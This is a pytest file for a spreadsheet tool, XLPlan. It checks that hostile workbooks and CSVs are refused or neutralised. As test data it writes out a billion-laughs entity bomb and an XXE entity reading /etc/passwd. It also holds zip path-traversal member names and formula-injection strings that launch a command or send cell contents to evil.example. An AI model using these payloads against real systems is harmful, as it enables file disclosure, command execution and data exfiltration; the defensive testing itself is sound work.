"""Hostile input: what a file from outside may hold, and what XLPlan does with it.

Each case ends in a clean bilingual refusal (exit 1, one ``xlplan:`` line, no traceback) or in
a correct run; the input is never changed and nothing is written outside the output path.
"""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from xlplan.actions import CATALOG
from xlplan.app import templates
from xlplan.app.cli import main
from xlplan.core.errors import InputError
from xlplan.landed_cost import sheets as landed_cost_sheets
from xlplan.workbook.io import read_workbook_tables

SHARED = Path(__file__).resolve().parents[3] / "shared"
VBA = SHARED / "data" / "excel" / "calamine" / "vba.xlsm"

LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    '<!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
    '<!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">'
    '<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>'
)
XXE = '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'


def plan(lines: pd.DataFrame | None = None) -> bytes:
    return templates.template_bytes("en", lines)


def rezip(data: bytes, changes: dict[str, bytes | None]) -> bytes:
    """``data`` with members replaced (None deletes), added at the end when new."""
    src = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for item in src.infolist():
            if item.filename in changes:
                body = changes.pop(item.filename)
                if body is not None:
                    dst.writestr(item, body)
            else:
                dst.writestr(item, src.read(item))
        for name, body in changes.items():
            if body is not None:
                dst.writestr(name, body)
    return out.getvalue()


def run_cli(argv: list[str], capsys: pytest.CaptureFixture[str]) -> tuple[int, str]:
    code = main(argv)
    err = capsys.readouterr().err
    assert "Traceback" not in err
    return code, err


def with_prolog(data: bytes, prolog: str) -> bytes:
    """``data`` (an XML part) with its XML declaration replaced by ``prolog``."""
    text = data.decode("utf-8")
    if text.startswith("<?xml"):
        text = text[text.index("?>") + 2 :].lstrip()
    return (prolog + text).encode("utf-8")


# --------------------------------------------------------------------------------------------
# XML bombs and external entities
# --------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "part",
    [
        "xl/sharedStrings.xml",
        "xl/_rels/workbook.xml.rels",
        "[Content_Types].xml",
        "xl/workbook.xml",
    ],
)
@pytest.mark.parametrize("prolog", [LAUGHS, XXE], ids=["billion-laughs", "xxe"])
def test_entities_are_refused_in_every_part_read(
    part: str, prolog: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    data = plan()
    body = zipfile.ZipFile(io.BytesIO(data)).read(part)
    src = tmp_path / "plan.xlsx"
    src.write_bytes(rezip(data, {part: with_prolog(body, prolog)}))
    before = src.read_bytes()
    commands = [
        ["landed-cost", str(src), "-o", str(tmp_path / "out.xlsx")],
        ["check", str(src)],
        ["run", str(src), "--in-place"],
    ]
    if part != "xl/sharedStrings.xml":  # relink never reads the strings: it copies them
        commands.append(["relink", str(src), "-o", str(tmp_path / "relinked.xlsx")])
    for argv in commands:
        code, err = run_cli(argv, capsys)
        assert code == 1, argv
        assert "declares a DTD or entities" in err and "DTD 或实体" in err, err
        assert part in err
    assert src.read_bytes() == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["plan.xlsx"]


def test_a_bomb_in_a_sheet_is_refused_before_calamine_reads_it(tmp_path: Path) -> None:
    data = plan()
    zf = zipfile.ZipFile(io.BytesIO(data))
    sheets = [n for n in zf.namelist() if n.startswith("xl/worksheets/sheet")]
    src = tmp_path / "plan.xlsx"
    src.write_bytes(rezip(data, {s: with_prolog(zf.read(s), LAUGHS) for s in sheets}))
    with pytest.raises(InputError, match="DTD"):
        read_workbook_tables(src, CATALOG)


# --------------------------------------------------------------------------------------------
# Size: a small file that expands to a lot
# --------------------------------------------------------------------------------------------


def million_empty_cells_sheet(rows: int = 40_000, cols: int = 25) -> bytes:
    """A Landed Cost sheet whose header and two lines sit above a million formatted empty
    cells (40,000 rows x 25 columns), as a sheet formatted down to row 40,000 looks."""
    head = ["SKU", "Market", "Channel", "Unit cost", "Cost currency", "FX rate", "Price"]
    cells = "".join(
        f'<c r="{chr(65 + j)}1" t="inlineStr"><is><t>{h}</t></is></c>' for j, h in enumerate(head)
    )
    lines = [
        ["A-1", "US", "Amazon", 5, "CNY", 0.14, 20],
        ["A-2", "DE", "Amazon", 6, "CNY", 0.13, 25],
    ]
    body = [f'<row r="1">{cells}</row>']
    for r, line in enumerate(lines, 2):
        row = "".join(
            f'<c r="{chr(65 + j)}{r}" t="inlineStr"><is><t>{v}</t></is></c>'
            if isinstance(v, str)
            else f'<c r="{chr(65 + j)}{r}"><v>{v}</v></c>'
            for j, v in enumerate(line)
        )
        body.append(f'<row r="{r}">{row}</row>')
    letters = [chr(65 + j) for j in range(cols)]
    for r in range(4, rows + 4):
        body.append(
            f'<row r="{r}">' + "".join(f'<c r="{c}{r}" s="1"/>' for c in letters) + "</row>"
        )
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        f'<dimension ref="A1:{letters[-1]}{rows + 3}"/><sheetData>'
        + "".join(body)
        + "</sheetData></worksheet>"
    ).encode()


def workbook_with_sheet(sheet_xml: bytes, table_ref: str | None = None) -> bytes:
    """A workbook of one sheet, "Landed Cost", holding ``sheet_xml`` (and an Excel Table
    tblLandedCost over ``table_ref`` when given)."""
    import xlsxwriter

    buf = io.BytesIO()
    wb = xlsxwriter.Workbook(buf, {"in_memory": True})
    ws = wb.add_worksheet("Landed Cost")
    ws.write_string(0, 0, "SKU", wb.add_format({"bold": True}))
    if table_ref:
        ws.add_table("A1:G3", {"name": "tblLandedCost"})
    wb.close()
    changes: dict[str, bytes | None] = {"xl/worksheets/sheet1.xml": sheet_xml}
    if table_ref:
        zf = zipfile.ZipFile(io.BytesIO(buf.getvalue()))
        table = (
            zf.read("xl/tables/table1.xml").decode().replace('ref="A1:G3"', f'ref="{table_ref}"')
        )
        changes["xl/tables/table1.xml"] = table.encode()
    return rezip(buf.getvalue(), changes)


def test_a_million_formatted_empty_cells_are_not_expanded(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """The formatted empty cells below the lines are never turned into objects: the two lines
    compute (openpyxl's full load of such a sheet ran for minutes into a MemoryError)."""
    src = tmp_path / "formatted.xlsx"
    src.write_bytes(workbook_with_sheet(million_empty_cells_sheet()))
    out = tmp_path / "out.xlsx"
    code, err = run_cli(["landed-cost", str(src), "-o", str(out), "--date", "2027-01-01"], capsys)
    assert code == 0, err
    wb = openpyxl.load_workbook(out, read_only=True)
    rows = list(wb["Landed Cost Results"].iter_rows(min_row=7, max_row=9, values_only=True))
    assert [r[0] for r in rows] == ["A-1", "A-2"]  # the empty rows below are not lines


def test_a_table_beyond_the_cell_limit_is_refused_at_once(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A table part claiming the whole sheet (A1:XFD1048576, 17 billion cells) is refused from
    its range, before a cell is read; the message says the limit and how to raise it."""
    src = tmp_path / "huge.xlsx"
    src.write_bytes(workbook_with_sheet(million_empty_cells_sheet(10, 3), "A1:XFD1048576"))
    code, err = run_cli(["check", str(src)], capsys)
    assert code == 1
    assert "17,179,869,184 cells" in err and "40,000,000" in err
    assert "XLPLAN_MAX_CELLS" in err


def test_the_cell_limit_can_be_lowered_and_raised(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """The million formatted cells, with the limit set below them, are refused by the limit;
    raised again, the same file runs."""
    src = tmp_path / "formatted.xlsx"
    src.write_bytes(workbook_with_sheet(million_empty_cells_sheet(), "A1:Y40003"))
    monkeypatch.setenv("XLPLAN_MAX_CELLS", "500000")
    code, err = run_cli(["landed-cost", str(src), "-o", str(tmp_path / "out.xlsx")], capsys)
    assert code == 1
    assert "1,000,075 cells" in err and "500,000" in err and "XLPLAN_MAX_CELLS" in err
    monkeypatch.setenv("XLPLAN_MAX_CELLS", "2000000")
    out = tmp_path / "out.xlsx"
    code, err = run_cli(["landed-cost", str(src), "-o", str(out), "--date", "2027-01-01"], capsys)
    assert code == 0, err


def test_a_part_over_the_size_limit_is_refused_before_it_is_decompressed(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    data = million_empty_cells_sheet(60_000, 26)  # ~30 MB of XML, a few hundred KB zipped
    src = tmp_path / "big.xlsx"
    src.write_bytes(workbook_with_sheet(data))
    monkeypatch.setenv("XLPLAN_MAX_PART_MB", "16")
    code, err = run_cli(["check", str(src)], capsys)
    assert code == 1
    assert "xl/worksheets/sheet1.xml" in err and "16 MB" in err and "XLPLAN_MAX_PART_MB" in err


# --------------------------------------------------------------------------------------------
# Kinds of workbook and zip member names
# --------------------------------------------------------------------------------------------


def xlsm_plan(tmp_path: Path) -> Path:
    """A macro-enabled plan: the template with calamine's vba.xlsm VBA project in it."""
    data = plan()
    vba = zipfile.ZipFile(VBA).read("xl/vbaProject.bin")
    ct = zipfile.ZipFile(io.BytesIO(data)).read("[Content_Types].xml").decode()
    plain = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
    assert plain in ct
    ct = ct.replace(plain, "application/vnd.ms-excel.sheet.macroEnabled.main+xml").replace(
        "</Types>",
        '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
    )
    src = tmp_path / "plan.xlsm"
    src.write_bytes(rezip(data, {"[Content_Types].xml": ct.encode(), "xl/vbaProject.bin": vba}))
    return src


@pytest.mark.skipif(not VBA.exists(), reason="shared test workbooks not found")
def test_a_macro_workbook_keeps_its_kind(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    src = xlsm_plan(tmp_path)
    before = src.read_bytes()
    code, err = run_cli(["landed-cost", str(src), "-o", str(tmp_path / "out.xlsx")], capsys)
    assert code == 1
    assert ".xlsm workbook" in err and "-o out.xlsm" in err
    assert not (tmp_path / "out.xlsx").exists()
    code, err = run_cli(["landed-cost", str(src), "--date", "2027-01-01"], capsys)
    assert code == 0, err
    out = tmp_path / "plan.xlplan.xlsm"  # the default output keeps the kind
    zf = zipfile.ZipFile(out)
    assert zf.read("xl/vbaProject.bin") == zipfile.ZipFile(VBA).read("xl/vbaProject.bin")
    assert b"macroEnabled.main+xml" in zf.read("[Content_Types].xml")
    assert src.read_bytes() == before


def test_a_plain_workbook_is_not_written_as_xlsm(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    src = tmp_path / "plan.xlsx"
    src.write_bytes(plan())
    code, err = run_cli(
        ["run", str(src), "--action", "landed_cost", "-o", str(tmp_path / "o.xlsm")], capsys
    )
    assert code == 1 and ".xlsx workbook" in err


def test_zip_members_named_with_dot_dot_are_never_written_outside(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Members named ``../../evil.txt`` or ``/abs.txt`` are copied into the output package as
    the bytes they are, never extracted: nothing appears outside the output path."""
    work = tmp_path / "a" / "b"
    work.mkdir(parents=True)
    src = work / "plan.xlsx"
    evil = {"../../evil.txt": b"x", "../escape/../../evil2.txt": b"y", "/abs_evil.txt": b"z"}
    src.write_bytes(rezip(plan(), dict(evil)))
    stored = {n for n in zipfile.ZipFile(src).namelist() if "evil" in n}
    assert len(stored) == len(evil)
    out = work / "out.xlsx"
    code, err = run_cli(["landed-cost", str(src), "-o", str(out), "--date", "2027-01-01"], capsys)
    assert code == 0, err
    found = sorted(str(p.relative_to(tmp_path)) for p in tmp_path.rglob("*") if p.is_file())
    assert found == ["a/b/out.xlsx", "a/b/plan.xlsx"]
    names = zipfile.ZipFile(out).namelist()
    assert {n for n in names if "evil" in n} == stored


# --------------------------------------------------------------------------------------------
# User text never runs
# --------------------------------------------------------------------------------------------

HOSTILE_TEXT = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "http://evil.example/steal",
    "\t=1+1",
    "\r=1+1",
]


def test_user_text_comes_back_as_text_in_the_workbook(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    lines = landed_cost_sheets.sample_lines().astype(object)
    n = len(HOSTILE_TEXT)
    lines = pd.concat([lines] * (n // len(lines) + 1), ignore_index=True).iloc[:n]
    lines["sku"] = HOSTILE_TEXT
    lines["channel"] = list(reversed(HOSTILE_TEXT))
    src = tmp_path / "plan.xlsx"
    src.write_bytes(plan(lines))
    out = tmp_path / "out.xlsx"
    run_cli(["landed-cost", str(src), "-o", str(out)], capsys)
    zf = zipfile.ZipFile(out)
    for name in zf.namelist():
        if name.startswith("xl/worksheets/sheet"):
            assert b"<hyperlink" not in zf.read(name), name
    wb = openpyxl.load_workbook(out)  # formulas as written, not values
    for sheet in ("Landed Cost", "Landed Cost Results"):  # the user's input, XLPlan's output
        cells = [c for row in wb[sheet].iter_rows(min_row=7, max_col=3) for c in row]
        found = {  # XlsxWriter (the template) writes CR as _x000D_, which openpyxl keeps
            c.value.replace("_x000D_", "\r"): c.data_type for c in cells if isinstance(c.value, str)
        }
        for text in HOSTILE_TEXT:
            assert found.get(text) == "s", (sheet, text, found.get(text))


def test_csv_output_neutralises_formulas_and_keeps_numbers(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    src = tmp_path / "lines.csv"
    rows = ["sku,market,channel,unit_cost,cost_currency,fx_rate,price,note"]
    for i, text in enumerate(
        ["=1+1", "+1", "-1+2", "@x", "-1.5", "+3", "plain", "\t=1", "safe-name"]
    ):
        quoted = '"' + text.replace('"', '""') + '"'
        rows.append(f"{quoted},US,{quoted},5,USD,1,{-0.5 if i == 4 else 20},")
    src.write_text("\n".join(rows) + "\n", encoding="utf-8")
    out = tmp_path / "out.csv"
    run_cli(["landed-cost", str(src), "-o", str(out), "--date", "2027-01-01"], capsys)
    result = pd.read_csv(out, encoding="utf-8-sig", dtype=str, keep_default_na=False)
    assert result["SKU"].tolist() == [
        "'=1+1",
        "+1",
        "'-1+2",
        "'@x",
        "-1.5",
        "+3",
        "plain",
        "'\t=1",
        "safe-name",
    ]
    assert result["Channel"].tolist()[:4] == ["'=1+1", "+1", "'-1+2", "'@x"]
    assert result["Price"].tolist()[4] == "-0.5"  # a number stays a number
    assert not any(v.startswith(("=", "@", "\t", "\r")) for v in result.to_numpy().ravel())
